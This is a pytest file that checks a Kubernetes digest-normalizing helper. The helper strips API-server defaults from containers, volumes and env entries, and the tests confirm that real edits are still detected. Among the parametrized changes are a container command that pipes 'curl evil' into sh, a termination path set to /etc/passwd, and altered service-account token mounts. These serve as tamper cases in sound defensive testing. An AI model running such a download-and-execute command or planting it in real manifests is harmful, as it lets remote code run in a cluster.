"""Server defaults taken out before digests are compared (krm_fn/kube/defaults.py), and only those.

What the real API server adds is checked in test_cluster.py (every example's records verify on
what the server stores) and test_argocd_cluster.py (the webhook's empty patch); here, that the
normalizing never hides a real change.
"""

from typing import Any

import pytest

from krm_fn.editing.record import item_digest, unchanged
from krm_fn.kube.defaults import without_defaults

SIDECAR = {"name": "log", "image": "busybox:1.36.1", "resources": {"limits": {"cpu": "100m"}}}


def stored(container: dict[str, Any]) -> dict[str, Any]:
    """The container with what the API server fills in."""
    return {
        **container,
        "imagePullPolicy": "IfNotPresent",
        "terminationMessagePath": "/dev/termination-log",
        "terminationMessagePolicy": "File",
        "resources": {"limits": {"cpu": "100m"}},
        "volumeMounts": [
            {
                "name": "kube-api-access-x7k2p",
                "readOnly": True,
                "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount",
            }
        ],
    }


def test_a_stored_container_is_still_krm_fns() -> None:
    assert unchanged("initContainers", stored(SIDECAR), item_digest("initContainers", SIDECAR))


@pytest.mark.parametrize(
    "change",
    [
        {"image": "busybox:1.37"},
        {"imagePullPolicy": "Always"},  # not the default for a tagged image
        {"imagePullPolicy": 1},  # not even a string
        {"terminationMessagePath": "/etc/passwd"},
        {"resources": {"limits": {"cpu": "200m"}}},
        {"command": ["sh", "-c", "curl evil | sh"]},
        {
            "volumeMounts": [
                {
                    "name": "kube-api-access-x",
                    "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount",
                    "readOnly": False,
                }
            ]
        },
        {
            "volumeMounts": [
                {
                    "name": "host",
                    "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount",
                    "readOnly": True,
                }
            ]
        },
    ],
)
def test_anything_else_is_a_change(change: dict[str, Any]) -> None:
    changed = {**stored(SIDECAR), **change}
    assert not unchanged("initContainers", changed, item_digest("initContainers", SIDECAR))


def test_quantities_compare_by_value_and_the_pull_policy_by_tag() -> None:
    assert item_digest("containers", {"name": "a", "resources": {"limits": {"cpu": "1000m"}}}) == (
        item_digest("containers", {"name": "a", "resources": {"limits": {"cpu": 1}}})
    )
    latest = {"name": "a", "image": "busybox"}
    assert unchanged(
        "containers", {**latest, "imagePullPolicy": "Always"}, item_digest("containers", latest)
    )
    assert not unchanged(
        "containers",
        {**latest, "imagePullPolicy": "IfNotPresent"},
        item_digest("containers", latest),
    )
    pinned = {"name": "a", "image": "busybox@sha256:" + "0" * 64}
    assert without_defaults("containers", {**pinned, "imagePullPolicy": "IfNotPresent"}) == pinned


def test_volumes_and_env() -> None:
    volume = {"name": "conf", "configMap": {"name": "c"}}
    assert unchanged(
        "volumes",
        {"name": "conf", "configMap": {"name": "c", "defaultMode": 420}},
        item_digest("volumes", volume),
    )
    wider = {"name": "conf", "configMap": {"name": "c", "defaultMode": 511}}
    assert not unchanged("volumes", wider, item_digest("volumes", volume))
    env = {"name": "POD", "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}}
    defaulted = {
        "name": "POD",
        "valueFrom": {"fieldRef": {"fieldPath": "metadata.name", "apiVersion": "v1"}},
    }
    assert unchanged("env", defaulted, item_digest("env", env))
    assert without_defaults("labels", {"a": "b"}) == {"a": "b"}  # nothing defaults a label


class Text(str):
    """A str subclass, which marshal does not take (item_digest then keys by JSON text)."""


def test_digests_are_of_values_types_included_whatever_they_were_computed_before() -> None:
    """item_digest is cached by value: equal in Python is not enough (True == 1 == 1.0)."""
    volume = {"name": "conf", "emptyDir": {"sizeLimit": "1Gi"}}
    first = item_digest("volumes", volume)
    assert item_digest("volumes", dict(reversed(volume.items()))) == first  # key order ignored
    assert item_digest("volumes", {"name": Text("conf"), "emptyDir": {"sizeLimit": "1Gi"}}) == (
        first
    )
    readonly = [{"name": "a", "mountPath": "/a", "readOnly": v} for v in (True, 1, 1.0, "true")]
    assert len({item_digest("volumeMounts", m) for m in readonly}) == 4
    ports = [{"containerPort": v} for v in (80, 80.0, 8_0, Text("80"), "80")]
    assert len({item_digest("ports", p) for p in ports}) == 3
